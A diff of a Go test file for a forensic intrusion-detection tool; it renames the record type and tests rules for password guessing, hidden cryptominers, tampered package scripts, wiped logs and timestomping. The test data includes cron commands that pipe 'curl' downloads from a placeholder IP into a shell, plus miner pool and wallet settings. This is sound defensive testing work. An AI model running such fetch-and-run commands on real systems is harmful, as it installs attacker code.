@@ -8,7 +8,6 @@ import (
 	"testing"
 	"time"
 
-	"icecore/forensics/artifact"
 	"icecore/forensics/filesystem"
 	"icecore/forensics/message"
 	"icecore/forensics/model"
@@ -17,16 +16,16 @@ import (
 var noon = time.Date(2026, 1, 12, 12, 0, 0, 0, time.UTC)
 
 // at adds times to a record: what, minutes from noon.
-func at(r artifact.Record, stamps ...any) artifact.Record {
+func at(r model.Record, stamps ...any) model.Record {
 	for i := 0; i < len(stamps); i += 2 {
-		r.Times = append(r.Times, artifact.Stamp{What: stamps[i].(string), Time: noon.Add(time.Duration(stamps[i+1].(int)) * time.Minute)})
+		r.Times = append(r.Times, model.Stamp{What: stamps[i].(string), Time: noon.Add(time.Duration(stamps[i+1].(int)) * time.Minute)})
 	}
 	return r
 }
 
 // scene is what an analysis looks at.
 type scene struct {
-	records  []artifact.Record
+	records  []model.Record
 	files    map[string]*FileFact
 	snapshot int // minutes from noon
 }
@@ -74,14 +73,14 @@ func program(p string, mode uint16, owner string) *FileFact {
 }
 
 func TestAnalyses(t *testing.T) {
-	rec := func(s string, stamps ...any) artifact.Record { return at(record(t, s), stamps...) }
-	failed := func(address string, count, minute int) artifact.Record {
+	rec := func(s string, stamps ...any) model.Record { return at(record(t, s), stamps...) }
+	failed := func(address string, count, minute int) model.Record {
 		return rec(fmt.Sprintf("auth.failures address=%s; count=%d; users=root; user_count=1", address, count), "first", minute, "last", minute+10)
 	}
-	login := func(address, method string, minute int) artifact.Record {
+	login := func(address, method string, minute int) model.Record {
 		return rec("auth.login method="+method+"; user=root; address="+address+"; path=/var/log/auth.log", "logged", minute)
 	}
-	var spread, few []artifact.Record
+	var spread, few []model.Record
 	for i := range 30 {
 		spread = append(spread, failed(fmt.Sprintf("192.0.2.%d", i+1), 2, -30))
 		few = append(few, failed(fmt.Sprintf("192.0.2.%d", i%3+1), 2, -30+i/20))
@@ -89,14 +88,14 @@ func TestAnalyses(t *testing.T) {
 	miner := rec("yara.match rule=XMRig_Binary; level=critical; technique=T1496.001; file_type=elf; path=/opt/a", "created", 0)
 	packagedMiner := record(t, "yara.match rule=XMRig_Binary; level=critical; technique=T1496.001; file_type=elf; owner=xmrig; package_state=intact; path=/opt/a")
 	job := "cron.job command=/opt/a; programs=/opt/a; path=/etc/cron.d/a"
-	list := func(minute int) artifact.Record {
+	list := func(minute int) model.Record {
 		return rec("dpkg.list package=openssh-server; path=/var/lib/dpkg/info/openssh-server.list", "changed", minute)
 	}
 	script := "dpkg.script package=openssh-server; script=postinst; notable=nohup; path=/var/lib/dpkg/info/openssh-server.postinst"
 	stomped := "file.notable what=old_mtime; file_type=elf; place=temp; path=/tmp/a"
-	log := func(s string, stamps ...any) artifact.Record { return rec("log.coverage "+s, stamps...) }
-	nowhere := func(n int) []artifact.Record {
-		var out []artifact.Record
+	log := func(s string, stamps ...any) model.Record { return rec("log.coverage "+s, stamps...) }
+	nowhere := func(n int) []model.Record {
+		var out []model.Record
 		for i := range n {
 			out = append(out, record(t, fmt.Sprintf("hosts.entry address=0.0.0.0; names=ad%d.example; nowhere=yes; path=/etc/hosts", i)))
 		}
@@ -110,97 +109,97 @@ func TestAnalyses(t *testing.T) {
 		want       Level
 	}{
 		// A login after its password was guessed.
-		{"640 failures, then a password", "guessed_password", scene{records: []artifact.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0)}}, Critical},
-		{"20 failures, then a password", "guessed_password", scene{records: []artifact.Record{failed("203.0.113.77", 20, -60), login("203.0.113.77", "password", 0)}}, High},
-		{"3 failures, then a password", "guessed_password", scene{records: []artifact.Record{failed("203.0.113.77", 3, -60), login("203.0.113.77", "password", 0)}}, None},
-		{"failures, then a key", "guessed_password", scene{records: []artifact.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "publickey", 0)}}, Medium},
-		{"failures of another address", "guessed_password", scene{records: []artifact.Record{failed("203.0.113.78", 640, -60), login("203.0.113.77", "password", 0)}}, None},
-		{"failures two days before", "guessed_password", scene{records: []artifact.Record{failed("203.0.113.77", 640, -3000), login("203.0.113.77", "password", 0)}}, None},
-		{"failures behind the login", "guessed_password", scene{records: []artifact.Record{failed("203.0.113.77", 640, 5), login("203.0.113.77", "password", 0)}}, None},
-		{"an address that had logged in before", "guessed_password", scene{records: []artifact.Record{login("203.0.113.77", "password", -5000), failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0)}}, Medium},
+		{"640 failures, then a password", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0)}}, Critical},
+		{"20 failures, then a password", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 20, -60), login("203.0.113.77", "password", 0)}}, High},
+		{"3 failures, then a password", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 3, -60), login("203.0.113.77", "password", 0)}}, None},
+		{"failures, then a key", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "publickey", 0)}}, Medium},
+		{"failures of another address", "guessed_password", scene{records: []model.Record{failed("203.0.113.78", 640, -60), login("203.0.113.77", "password", 0)}}, None},
+		{"failures two days before", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 640, -3000), login("203.0.113.77", "password", 0)}}, None},
+		{"failures behind the login", "guessed_password", scene{records: []model.Record{failed("203.0.113.77", 640, 5), login("203.0.113.77", "password", 0)}}, None},
+		{"an address that had logged in before", "guessed_password", scene{records: []model.Record{login("203.0.113.77", "password", -5000), failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0)}}, Medium},
 		// The same, shared among many addresses.
 		{"30 addresses guess, another logs in", "guessed_password_spread", scene{records: append(slices.Clone(spread), login("203.0.113.77", "password", 0))}, Medium},
 		{"30 addresses guess, a key logs in", "guessed_password_spread", scene{records: append(slices.Clone(spread), login("203.0.113.77", "publickey", 0))}, None},
 		{"3 addresses guess", "guessed_password_spread", scene{records: append(slices.Clone(few), login("203.0.113.77", "password", 0))}, None},
 		{"30 addresses guessed two hours before", "guessed_password_spread", scene{records: append(slices.Clone(spread), login("203.0.113.77", "password", 120))}, None},
 		// Guessing without a login.
-		{"guessing under way", "guessing", scene{records: []artifact.Record{failed("203.0.113.77", 640, -30)}}, Medium},
-		{"guessing, long over", "guessing", scene{records: []artifact.Record{failed("203.0.113.77", 640, -30)}, snapshot: 600}, Low},
-		{"a few failures", "guessing", scene{records: []artifact.Record{failed("203.0.113.77", 9, -30)}}, None},
+		{"guessing under way", "guessing", scene{records: []model.Record{failed("203.0.113.77", 640, -30)}}, Medium},
+		{"guessing, long over", "guessing", scene{records: []model.Record{failed("203.0.113.77", 640, -30)}, snapshot: 600}, Low},
+		{"a few failures", "guessing", scene{records: []model.Record{failed("203.0.113.77", 9, -30)}}, None},
 		// Autostart entries that launch a miner.
-		{"a job starts a miner", "starts_miner", scene{records: []artifact.Record{miner, record(t, job)}}, Critical},
-		{"a job starts a packaged miner", "starts_miner", scene{records: []artifact.Record{packagedMiner, record(t, job)}}, None},
-		{"a job starts something else", "starts_miner", scene{records: []artifact.Record{miner, with(t, job, "programs=/opt/b")}}, None},
-		{"the log proves that it ran", "starts_miner", scene{records: []artifact.Record{miner, with(t, job, "kind=cron.run")}}, None},
+		{"a job starts a miner", "starts_miner", scene{records: []model.Record{miner, record(t, job)}}, Critical},
+		{"a job starts a packaged miner", "starts_miner", scene{records: []model.Record{packagedMiner, record(t, job)}}, None},
+		{"a job starts something else", "starts_miner", scene{records: []model.Record{miner, with(t, job, "programs=/opt/b")}}, None},
+		{"the log proves that it ran", "starts_miner", scene{records: []model.Record{miner, with(t, job, "kind=cron.run")}}, None},
 		// Configurations of miners.
-		{"pool and wallet", "miner_configuration", scene{records: []artifact.Record{record(t, config)}}, High},
-		{"a sample's placeholder", "miner_configuration", scene{records: []artifact.Record{record(t, "miner.config program=xmrig; found_in=configuration; pool=donate.v2.xmrig.com:3333; user=YOUR_WALLET_ADDRESS; file_type=text; path=/srv/src/config.json")}}, Low},
-		{"a user of a private proxy", "miner_configuration", scene{records: []artifact.Record{record(t, "miner.config program=xmrig; found_in=configuration; pool=203.0.113.77:3333; user=w1; file_type=text; path=/srv/src/config.json")}}, Medium},
-		{"pool alone", "miner_configuration", scene{records: []artifact.Record{with(t, config, "wallet=")}}, Informational},
-		{"command in a note", "miner_configuration", scene{records: []artifact.Record{record(t, "miner.config pool=203.0.113.77:3333; wallet=w; found_in=command; file_type=text; path=/root/notes")}}, Low},
-		{"command in base64", "miner_configuration", scene{records: []artifact.Record{record(t, "miner.config pool=203.0.113.77:3333; wallet=w; found_in=command; encoding=base64; file_type=text; path=/opt/x")}}, Medium},
-		{"wallet alone", "miner_configuration", scene{records: []artifact.Record{record(t, "miner.config wallet=w; found_in=text; file_type=elf; path=/opt/x")}}, None},
-		{"pool in a program", "miner_configuration", scene{records: []artifact.Record{record(t, "miner.config pool=203.0.113.77:3333; file_type=elf; path=/opt/a")}}, Medium},
+		{"pool and wallet", "miner_configuration", scene{records: []model.Record{record(t, config)}}, High},
+		{"a sample's placeholder", "miner_configuration", scene{records: []model.Record{record(t, "miner.config program=xmrig; found_in=configuration; pool=donate.v2.xmrig.com:3333; user=YOUR_WALLET_ADDRESS; file_type=text; path=/srv/src/config.json")}}, Low},
+		{"a user of a private proxy", "miner_configuration", scene{records: []model.Record{record(t, "miner.config program=xmrig; found_in=configuration; pool=203.0.113.77:3333; user=w1; file_type=text; path=/srv/src/config.json")}}, Medium},
+		{"pool alone", "miner_configuration", scene{records: []model.Record{with(t, config, "wallet=")}}, Informational},
+		{"command in a note", "miner_configuration", scene{records: []model.Record{record(t, "miner.config pool=203.0.113.77:3333; wallet=w; found_in=command; file_type=text; path=/root/notes")}}, Low},
+		{"command in base64", "miner_configuration", scene{records: []model.Record{record(t, "miner.config pool=203.0.113.77:3333; wallet=w; found_in=command; encoding=base64; file_type=text; path=/opt/x")}}, Medium},
+		{"wallet alone", "miner_configuration", scene{records: []model.Record{record(t, "miner.config wallet=w; found_in=text; file_type=elf; path=/opt/x")}}, None},
+		{"pool in a program", "miner_configuration", scene{records: []model.Record{record(t, "miner.config pool=203.0.113.77:3333; file_type=elf; path=/opt/a")}}, Medium},
 		// Maintainer scripts.
-		{"modified, and holds what none should", "dpkg_script", scene{records: []artifact.Record{list(0), at(record(t, script), "changed", 60)}}, High},
-		{"as it was installed, and holds what none should", "dpkg_script", scene{records: []artifact.Record{list(0), at(record(t, script), "changed", 1)}}, Medium},
-		{"as it was installed, and does what few do", "dpkg_script", scene{records: []artifact.Record{list(0), at(with(t, script, "notable=ld.so.preload,preload_write"), "changed", 1)}}, Low},
-		{"modified, and does what few do", "dpkg_script", scene{records: []artifact.Record{list(0), at(with(t, script, "notable=ld.so.preload,preload_write"), "changed", 60)}}, High},
-		{"as it was installed, and does what few and what none do", "dpkg_script", scene{records: []artifact.Record{list(0), at(with(t, script, "notable=base64,fetch"), "changed", 1)}}, Medium},
-		{"newer", "dpkg_script", scene{records: []artifact.Record{list(0), at(with(t, script, "notable="), "changed", 60)}}, Low},
-		{"as it was installed", "dpkg_script", scene{records: []artifact.Record{list(0), at(with(t, script, "notable="), "changed", 1)}}, None},
-		{"starts a miner", "dpkg_script", scene{records: []artifact.Record{miner, list(0), at(with(t, script, "programs=/opt/a"), "changed", 60)}}, Critical},
+		{"modified, and holds what none should", "dpkg_script", scene{records: []model.Record{list(0), at(record(t, script), "changed", 60)}}, High},
+		{"as it was installed, and holds what none should", "dpkg_script", scene{records: []model.Record{list(0), at(record(t, script), "changed", 1)}}, Medium},
+		{"as it was installed, and does what few do", "dpkg_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=ld.so.preload,preload_write"), "changed", 1)}}, Low},
+		{"modified, and does what few do", "dpkg_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=ld.so.preload,preload_write"), "changed", 60)}}, High},
+		{"as it was installed, and does what few and what none do", "dpkg_script", scene{records: []model.Record{list(0), at(with(t, script, "notable=base64,fetch"), "changed", 1)}}, Medium},
+		{"newer", "dpkg_script", scene{records: []model.Record{list(0), at(with(t, script, "notable="), "changed", 60)}}, Low},
+		{"as it was installed", "dpkg_script", scene{records: []model.Record{list(0), at(with(t, script, "notable="), "changed", 1)}}, None},
+		{"starts a miner", "dpkg_script", scene{records: []model.Record{miner, list(0), at(with(t, script, "programs=/opt/a"), "changed", 60)}}, Critical},
 		// Preloaded libraries.
-		{"unowned library", "preload_unowned", scene{records: []artifact.Record{record(t, "preload.library library=/usr/local/lib/a.so")}, files: map[string]*FileFact{"/usr/local/lib/a.so": program("/usr/local/lib/a.so", 0o644, "")}}, High},
-		{"owned library", "preload_unowned", scene{records: []artifact.Record{record(t, "preload.library library=/usr/local/lib/a.so")}, files: map[string]*FileFact{"/usr/local/lib/a.so": program("/usr/local/lib/a.so", 0o644, "a")}}, Informational},
+		{"unowned library", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=/usr/local/lib/a.so")}, files: map[string]*FileFact{"/usr/local/lib/a.so": program("/usr/local/lib/a.so", 0o644, "")}}, High},
+		{"owned library", "preload_unowned", scene{records: []model.Record{record(t, "preload.library library=/usr/local/lib/a.so")}, files: map[string]*FileFact{"/usr/local/lib/a.so": program("/usr/local/lib/a.so", 0o644, "a")}}, Informational},
 		// Unowned programs in directories of packages.
-		{"unowned program", "unowned_program_started", scene{records: []artifact.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "")}}, Medium},
-		{"owned program", "unowned_program_started", scene{records: []artifact.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "a")}}, None},
-		{"unowned program in /usr/local", "unowned_program_started", scene{records: []artifact.Record{record(t, "systemd.exec command=/usr/local/sbin/a; programs=/usr/local/sbin/a")}, files: map[string]*FileFact{"/usr/local/sbin/a": program("/usr/local/sbin/a", 0o755, "")}}, None},
-		{"unowned plugin of a monitor", "unowned_program_started", scene{records: []artifact.Record{record(t, "cron.job command=x; programs=/usr/lib/nagios/plugins/a")}, files: map[string]*FileFact{"/usr/lib/nagios/plugins/a": program("/usr/lib/nagios/plugins/a", 0o755, "")}}, None},
-		{"unowned program by its name alone", "unowned_program_started", scene{records: []artifact.Record{record(t, "cron.job command=updated; programs=updated")}, files: map[string]*FileFact{"/usr/bin/updated": program("/usr/bin/updated", 0o755, "")}}, Medium},
-		{"owned program by its name alone", "unowned_program_started", scene{records: []artifact.Record{record(t, "cron.job command=updated; programs=updated")}, files: map[string]*FileFact{"/usr/bin/updated": program("/usr/bin/updated", 0o755, "a")}}, None},
-		{"unowned generator", "unowned_program_started", scene{records: []artifact.Record{record(t, "systemd.generator name=a; interpreter=ELF; path=/usr/local/lib/systemd/system-generators/a")}, files: map[string]*FileFact{"/usr/local/lib/systemd/system-generators/a": program("/usr/local/lib/systemd/system-generators/a", 0o755, "")}}, Medium},
-		{"owned generator", "unowned_program_started", scene{records: []artifact.Record{record(t, "systemd.generator name=a; interpreter=ELF; path=/usr/lib/systemd/system-generators/a")}, files: map[string]*FileFact{"/usr/lib/systemd/system-generators/a": program("/usr/lib/systemd/system-generators/a", 0o755, "systemd")}}, None},
-		{"what cannot be executed", "unowned_program_started", scene{records: []artifact.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o644, "")}}, None},
+		{"unowned program", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "")}}, Medium},
+		{"owned program", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o755, "a")}}, None},
+		{"unowned program in /usr/local", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/local/sbin/a; programs=/usr/local/sbin/a")}, files: map[string]*FileFact{"/usr/local/sbin/a": program("/usr/local/sbin/a", 0o755, "")}}, None},
+		{"unowned plugin of a monitor", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=x; programs=/usr/lib/nagios/plugins/a")}, files: map[string]*FileFact{"/usr/lib/nagios/plugins/a": program("/usr/lib/nagios/plugins/a", 0o755, "")}}, None},
+		{"unowned program by its name alone", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=updated; programs=updated")}, files: map[string]*FileFact{"/usr/bin/updated": program("/usr/bin/updated", 0o755, "")}}, Medium},
+		{"owned program by its name alone", "unowned_program_started", scene{records: []model.Record{record(t, "cron.job command=updated; programs=updated")}, files: map[string]*FileFact{"/usr/bin/updated": program("/usr/bin/updated", 0o755, "a")}}, None},
+		{"unowned generator", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.generator name=a; interpreter=ELF; path=/usr/local/lib/systemd/system-generators/a")}, files: map[string]*FileFact{"/usr/local/lib/systemd/system-generators/a": program("/usr/local/lib/systemd/system-generators/a", 0o755, "")}}, Medium},
+		{"owned generator", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.generator name=a; interpreter=ELF; path=/usr/lib/systemd/system-generators/a")}, files: map[string]*FileFact{"/usr/lib/systemd/system-generators/a": program("/usr/lib/systemd/system-generators/a", 0o755, "systemd")}}, None},
+		{"what cannot be executed", "unowned_program_started", scene{records: []model.Record{record(t, "systemd.exec command=/usr/sbin/a; programs=/usr/sbin/a")}, files: map[string]*FileFact{"/usr/sbin/a": program("/usr/sbin/a", 0o644, "")}}, None},
 		// Times set back.
-		{"in a temporary directory", "time_set_back", scene{records: []artifact.Record{record(t, stomped)}}, Medium},
-		{"in a directory of the system", "time_set_back", scene{records: []artifact.Record{with(t, stomped, "place=system")}}, Low},
-		{"a program that cron starts", "time_set_back", scene{records: []artifact.Record{record(t, stomped), record(t, "cron.job command=/tmp/a; programs=/tmp/a")}}, High},
-		{"a file of another kind", "time_set_back", scene{records: []artifact.Record{with(t, stomped, "what=temp_elf")}}, None},
+		{"in a temporary directory", "time_set_back", scene{records: []model.Record{record(t, stomped)}}, Medium},
+		{"in a directory of the system", "time_set_back", scene{records: []model.Record{with(t, stomped, "place=system")}}, Low},
+		{"a program that cron starts", "time_set_back", scene{records: []model.Record{record(t, stomped), record(t, "cron.job command=/tmp/a; programs=/tmp/a")}}, High},
+		{"a file of another kind", "time_set_back", scene{records: []model.Record{with(t, stomped, "what=temp_elf")}}, None},
 		// Emptied logs.
-		{"emptied", "log_emptied", scene{records: []artifact.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 600)}}, Medium},
-		{"made empty", "log_emptied", scene{records: []artifact.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 0)}}, None},
-		{"rotated", "log_emptied", scene{records: []artifact.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 600), log("path=/var/log/auth.log.1", "first", -10000, "last", 0)}}, None},
-		{"rotated by date", "log_emptied", scene{records: []artifact.Record{log("empty=yes; path=/var/log/secure", "created", 0, "modified", 600), log("path=/var/log/secure-20260111.gz", "first", -10000, "last", 0)}}, None},
-		{"its rotated part deleted", "log_emptied", scene{records: []artifact.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 0), log("path=/var/log/auth.log.1; state=deleted", "first", -10000, "last", 0)}}, Medium},
-		{"btmp alone", "log_emptied", scene{records: []artifact.Record{log("empty=yes; path=/var/log/btmp", "created", 0, "modified", 600)}}, None},
-		{"begins late, others do not", "log_emptied", scene{records: []artifact.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", -9000)}}, Medium},
-		{"begins late, as others do", "log_emptied", scene{records: []artifact.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", 0)}}, None},
-		{"begins where the rotated part ends", "log_emptied", scene{records: []artifact.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", -90000), log("path=/var/log/auth.log.1", "first", -20000, "last", -9001)}}, None},
+		{"emptied", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 600)}}, Medium},
+		{"made empty", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 0)}}, None},
+		{"rotated", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 600), log("path=/var/log/auth.log.1", "first", -10000, "last", 0)}}, None},
+		{"rotated by date", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/secure", "created", 0, "modified", 600), log("path=/var/log/secure-20260111.gz", "first", -10000, "last", 0)}}, None},
+		{"its rotated part deleted", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/auth.log", "created", 0, "modified", 0), log("path=/var/log/auth.log.1; state=deleted", "first", -10000, "last", 0)}}, Medium},
+		{"btmp alone", "log_emptied", scene{records: []model.Record{log("empty=yes; path=/var/log/btmp", "created", 0, "modified", 600)}}, None},
+		{"begins late, others do not", "log_emptied", scene{records: []model.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", -9000)}}, Medium},
+		{"begins late, as others do", "log_emptied", scene{records: []model.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", 0)}}, None},
+		{"begins where the rotated part ends", "log_emptied", scene{records: []model.Record{log("path=/var/log/auth.log", "created", -9000, "first", 0), log("path=/var/log/cron.log", "first", -90000), log("path=/var/log/auth.log.1", "first", -20000, "last", -9001)}}, None},
 		// Overwritten logins.
-		{"zeros in the middle", "login_records_zeroed", scene{records: []artifact.Record{log("zeroed=1; path=/var/log/wtmp")}}, Medium},
-		{"zeros at the end", "login_records_zeroed", scene{records: []artifact.Record{log("zero_tail=1; path=/var/log/wtmp")}}, None},
-		{"zeros of lastlog", "login_records_zeroed", scene{records: []artifact.Record{log("zeroed=1; path=/var/log/lastlog")}}, None},
+		{"zeros in the middle", "login_records_zeroed", scene{records: []model.Record{log("zeroed=1; path=/var/log/wtmp")}}, Medium},
+		{"zeros at the end", "login_records_zeroed", scene{records: []model.Record{log("zero_tail=1; path=/var/log/wtmp")}}, None},
+		{"zeros of lastlog", "login_records_zeroed", scene{records: []model.Record{log("zeroed=1; path=/var/log/lastlog")}}, None},
 		// Sinkholed names.
 		{"a pool", "hosts_nowhere", scene{records: nowhere(0)}, Medium},
 		{"a pool in a block list", "hosts_nowhere", scene{records: nowhere(60)}, Low},
-		{"updates", "hosts_nowhere", scene{records: []artifact.Record{record(t, "hosts.entry address=127.0.0.1; names=security.debian.org; nowhere=yes; path=/etc/hosts")}}, Medium},
-		{"an advertiser", "hosts_nowhere", scene{records: []artifact.Record{record(t, "hosts.entry address=127.0.0.1; names=ads.example; nowhere=yes; path=/etc/hosts")}}, None},
-		{"a mirror that is somewhere", "hosts_nowhere", scene{records: []artifact.Record{record(t, "hosts.entry address=192.0.2.9; names=deb.debian.org; path=/etc/hosts")}}, None},
+		{"updates", "hosts_nowhere", scene{records: []model.Record{record(t, "hosts.entry address=127.0.0.1; names=security.debian.org; nowhere=yes; path=/etc/hosts")}}, Medium},
+		{"an advertiser", "hosts_nowhere", scene{records: []model.Record{record(t, "hosts.entry address=127.0.0.1; names=ads.example; nowhere=yes; path=/etc/hosts")}}, None},
+		{"a mirror that is somewhere", "hosts_nowhere", scene{records: []model.Record{record(t, "hosts.entry address=192.0.2.9; names=deb.debian.org; path=/etc/hosts")}}, None},
 		// Settings.
-		{"huge pages without watchdog", "tuned_for_mining", scene{records: []artifact.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.setting name=kernel.nmi_watchdog; value=0")}}, Medium},
-		{"huge pages with watchdog", "tuned_for_mining", scene{records: []artifact.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.setting name=kernel.nmi_watchdog; value=1")}}, None},
-		{"huge pages and msr", "tuned_for_mining", scene{records: []artifact.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.module module=msr")}}, Medium},
-		{"no watchdog", "tuned_for_mining", scene{records: []artifact.Record{record(t, "kernel.setting name=kernel.nmi_watchdog; value=0")}}, None},
+		{"huge pages without watchdog", "tuned_for_mining", scene{records: []model.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.setting name=kernel.nmi_watchdog; value=0")}}, Medium},
+		{"huge pages with watchdog", "tuned_for_mining", scene{records: []model.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.setting name=kernel.nmi_watchdog; value=1")}}, None},
+		{"huge pages and msr", "tuned_for_mining", scene{records: []model.Record{record(t, "kernel.setting name=vm.nr_hugepages; value=1280"), record(t, "kernel.module module=msr")}}, Medium},
+		{"no watchdog", "tuned_for_mining", scene{records: []model.Record{record(t, "kernel.setting name=kernel.nmi_watchdog; value=0")}}, None},
 		// Accounts of daemons.
-		{"a daemon with a password", "daemon_password", scene{records: []artifact.Record{record(t, "account.shadow name=games; password=set")}}, Medium},
-		{"a daemon without", "daemon_password", scene{records: []artifact.Record{record(t, "account.shadow name=games; password=locked")}}, None},
-		{"a person with a password", "daemon_password", scene{records: []artifact.Record{record(t, "account.shadow name=deploy; password=set")}}, None},
+		{"a daemon with a password", "daemon_password", scene{records: []model.Record{record(t, "account.shadow name=games; password=set")}}, Medium},
+		{"a daemon without", "daemon_password", scene{records: []model.Record{record(t, "account.shadow name=games; password=locked")}}, None},
+		{"a person with a password", "daemon_password", scene{records: []model.Record{record(t, "account.shadow name=deploy; password=set")}}, None},
 		// The intruder's addresses.
-		{"a script names the intruder", "names_intruder", scene{records: []artifact.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0), record(t, "file.notable what=script; urls=http://203.0.113.77/a; state=deleted; path=/tmp/a.sh")}}, Medium},
-		{"a script names another", "names_intruder", scene{records: []artifact.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0), record(t, "file.notable what=script; urls=http://203.0.113.78/a; state=deleted; path=/tmp/a.sh")}}, None},
-		{"nobody came in", "names_intruder", scene{records: []artifact.Record{failed("203.0.113.77", 640, -60), record(t, "file.notable what=script; urls=http://203.0.113.77/a; state=deleted; path=/tmp/a.sh")}}, None},
+		{"a script names the intruder", "names_intruder", scene{records: []model.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0), record(t, "file.notable what=script; urls=http://203.0.113.77/a; state=deleted; path=/tmp/a.sh")}}, Medium},
+		{"a script names another", "names_intruder", scene{records: []model.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0), record(t, "file.notable what=script; urls=http://203.0.113.78/a; state=deleted; path=/tmp/a.sh")}}, None},
+		{"nobody came in", "names_intruder", scene{records: []model.Record{failed("203.0.113.77", 640, -60), record(t, "file.notable what=script; urls=http://203.0.113.77/a; state=deleted; path=/tmp/a.sh")}}, None},
 	} {
 		t.Run(tt.rule+"/"+tt.name, func(t *testing.T) {
 			if got := level(tt.scene.run(t), tt.rule); got != tt.want {
@@ -244,7 +243,7 @@ func TestPackaged(t *testing.T) {
 	const match = "yara.match rule=X; level=critical; technique=T1574.006; file_type=elf; path=/usr/bin/ip"
 	for _, tt := range []struct {
 		name   string
-		rec    artifact.Record
+		rec    model.Record
 		want   Level
 		change string
 	}{
@@ -256,7 +255,7 @@ func TestPackaged(t *testing.T) {
 		{"orphan", record(t, match+"; state=orphan"), Critical, ""},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
-			s := scene{records: []artifact.Record{tt.rec}}
+			s := scene{records: []model.Record{tt.rec}}
 			if got := level(s.run(t), "X"); got != tt.want {
 				t.Errorf("level %s, want %s", got, tt.want)
 			}
@@ -268,7 +267,7 @@ func TestPackaged(t *testing.T) {
 // strongest names; what it may do stays a claim of its own.
 func TestJoined(t *testing.T) {
 	const path = "; path=/usr/bin/.a"
-	s := scene{records: []artifact.Record{
+	s := scene{records: []model.Record{
 		record(t, "file.notable what=hidden_elf"+path), record(t, "file.notable what=setuid_unowned"+path),
 		record(t, "miner.config pool=203.0.113.77:3333; file_type=elf"+path),
 		record(t, "yara.match rule=XMRig_Binary; level=critical; technique=T1496.001; file_type=elf"+path),
@@ -289,7 +288,7 @@ func TestManyLines(t *testing.T) {
 	var s scene
 	for i := range lines {
 		r := record(t, fmt.Sprintf("cron.job traits=pipe_to_shell; command=curl -s http://203.0.113.7/%d.sh", i))
-		r.Source = artifact.Source{Volume: "p1", Path: "/etc/cron.d/x", Inode: 12, Line: i + 1}
+		r.Source = model.Source{Volume: "p1", Path: "/etc/cron.d/x", Inode: 12, Line: i + 1}
 		s.records = append(s.records, r)
 	}
 	res := s.run(t)
@@ -318,7 +317,7 @@ func verdictOf(list []model.Finding) model.Verdict {
 
 func TestVerdict(t *testing.T) {
 	f := func(l Level, path string, minute int) model.Finding {
-		return model.Finding{Level: l, Rule: path, Phase: PhasePersistence, When: model.When{Time: noon.Add(time.Duration(minute) * time.Minute)}, Source: artifact.Source{Volume: "p1", Path: path}}
+		return model.Finding{Level: l, Rule: path, Phase: PhasePersistence, When: model.When{Time: noon.Add(time.Duration(minute) * time.Minute)}, Source: model.Source{Volume: "p1", Path: path}}
 	}
 	for _, tt := range []struct {
 		name  string
@@ -362,7 +361,7 @@ func TestSpreadWindow(t *testing.T) {
 	var g guesses
 	g.addresses = make(map[string]int)
 	for i := range 500 {
